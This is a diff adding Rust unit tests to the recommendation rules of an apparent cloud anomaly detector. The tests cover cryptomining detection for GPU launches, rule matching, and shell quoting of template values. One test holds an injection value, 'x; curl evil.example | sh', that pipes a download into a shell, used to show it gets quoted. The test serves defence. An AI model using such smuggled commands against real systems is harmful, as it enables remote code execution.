@@ -333,3 +333,148 @@ pub fn default_rules() -> Vec<RecommendationRule> {
         ),
     ]
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use trailhound_core::{AccountMetadata, Contributor};
+
+    fn contributor(dimension: &str, value: &str, share: f64, is_new: bool) -> Contributor {
+        Contributor {
+            dimension: dimension.into(),
+            value: value.into(),
+            count: 10,
+            share,
+            baseline_count: 0,
+            is_new,
+        }
+    }
+
+    /// A GPU launch in a sandbox account by `principal` (new or not).
+    fn gpu_launch(principal_is_new: bool) -> Anomaly {
+        let t = chrono::DateTime::from_timestamp(1_767_571_200, 0).unwrap_or_default();
+        Anomaly {
+            id: "a".into(),
+            detector: "ec2-run-instances".into(),
+            service: "ec2".into(),
+            kind: AnomalyKind::Spike,
+            account_id: "111122223333".into(),
+            account_name: "sandbox-1".into(),
+            environment: Environment::Sandbox,
+            ou_path: vec!["Root".into(), "Sandbox".into()],
+            region: "ap-south-1".into(),
+            entity: Vec::new(),
+            window_start: t,
+            window_end: t,
+            observed_until: t,
+            actual: 40.0,
+            expected: 0.0,
+            features: Vec::new(),
+            grade: 1.0,
+            confidence: 0.9,
+            score: 3.0,
+            event_count: 40,
+            top_contributors: vec![
+                contributor(
+                    "principal",
+                    "arn:aws:iam::111122223333:user/miner",
+                    0.9,
+                    principal_is_new,
+                ),
+                contributor("source_ip", "203.0.113.66", 0.9, true),
+                contributor("instance_type", "p4d.24xlarge", 0.7, false),
+                contributor("instance_type", "g5.12xlarge", 0.3, false),
+            ],
+            detected_at: t,
+            account: AccountMetadata::external("111122223333"),
+        }
+    }
+
+    fn names(a: &Anomaly, usd: f64, max: usize) -> Vec<String> {
+        let cx = Context {
+            anomaly: a,
+            usd_per_30_days: usd,
+            correlation: None,
+        };
+        recommend(&default_rules(), &cx, max)
+            .into_iter()
+            .map(|r| r.rule)
+            .collect()
+    }
+
+    #[test]
+    fn gpu_launches_by_a_new_principal_are_cryptomining_by_a_known_one_not() {
+        let by_new = names(&gpu_launch(true), 50_000.0, 10);
+        assert_eq!(by_new.first().map(String::as_str), Some("cryptomining"));
+        assert!(!by_new.iter().any(|r| r == "gpu-launch"), "{by_new:?}");
+        let by_known = names(&gpu_launch(false), 50_000.0, 10);
+        assert!(
+            !by_known.iter().any(|r| r == "cryptomining"),
+            "{by_known:?}"
+        );
+        assert!(by_known.iter().any(|r| r == "gpu-launch"), "{by_known:?}");
+        // At most `max`, in rule order.
+        assert_eq!(names(&gpu_launch(true), 50_000.0, 1), ["cryptomining"]);
+    }
+
+    #[test]
+    fn conditions_that_are_set_must_all_hold() {
+        let a = gpu_launch(true);
+        let cx = |usd: f64| Context {
+            anomaly: &a,
+            usd_per_30_days: usd,
+            correlation: None,
+        };
+        let m = RuleMatch {
+            services: vec!["ec2".into()],
+            environments: vec![Environment::Sandbox],
+            min_usd_per_30_days: Some(1_000.0),
+            ..Default::default()
+        };
+        assert!(m.matches(&cx(5_000.0)));
+        assert!(!m.matches(&cx(10.0)), "below the cost floor");
+        let production = RuleMatch {
+            environments: vec![Environment::Production],
+            ..m.clone()
+        };
+        assert!(!production.matches(&cx(5_000.0)));
+        let correlated = RuleMatch {
+            correlated: Some(true),
+            ..m.clone()
+        };
+        assert!(!correlated.matches(&cx(5_000.0)), "no correlation here");
+        let failing = RuleMatch {
+            error_codes: vec!["AccessDenied".into()],
+            ..m
+        };
+        assert!(!failing.matches(&cx(5_000.0)), "no error codes here");
+    }
+
+    #[test]
+    fn templates_are_filled_and_shell_values_quoted() {
+        let mut a = gpu_launch(true);
+        // A crafted principal cannot add a command to an action.
+        a.top_contributors[0].value = "x; curl evil.example | sh".into();
+        let cx = Context {
+            anomaly: &a,
+            usd_per_30_days: 0.0,
+            correlation: None,
+        };
+        let out = fill(
+            "aws ec2 stop-instances --region {region}; disable {principal}; types {instance_types}; in {account} under {ou}; {unknown}",
+            &cx,
+        );
+        assert_eq!(
+            out,
+            "aws ec2 stop-instances --region ap-south-1; disable 'x; curl evil.example | sh'; types 'p4d.24xlarge, g5.12xlarge'; in sandbox-1 (111122223333) under Root/Sandbox; {unknown}"
+        );
+        // Nothing recorded: said so, not left blank.
+        a.top_contributors.clear();
+        let cx = Context {
+            anomaly: &a,
+            usd_per_30_days: 0.0,
+            correlation: None,
+        };
+        assert_eq!(fill("{source_ip}", &cx), "'(no source_ip recorded)'");
+    }
+}
